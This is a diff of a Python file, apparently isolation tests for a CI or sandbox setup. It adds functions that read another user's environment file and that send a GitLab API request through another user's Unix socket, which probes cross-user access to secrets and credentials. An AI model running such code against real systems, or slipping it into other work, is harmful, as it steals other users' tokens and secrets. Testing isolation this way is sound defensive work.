@@ -41,6 +41,19 @@ def as_another_user(facts):
 as_root = as_another_user
 
 
+def environment_file_of_another_user(facts):
+    sys.stdout.write(open(facts["file"]).read())
+
+
+def socket_of_another_user(facts):
+    import socket
+    peer = socket.socket(socket.AF_UNIX)
+    peer.connect(facts["file"])
+    peer = Peer(peer)
+    peer.send(f"GET https://{facts['gitlab']}/api/v4/user HTTP/1.1\r\nHost: {facts['gitlab']}\r\n\r\n")
+    show(peer.response())
+
+
 def daemon_of_an_earlier_run(facts):
     "It stays when its run ends, and waits for the proxy of the next one."
     if os.fork() == 0:
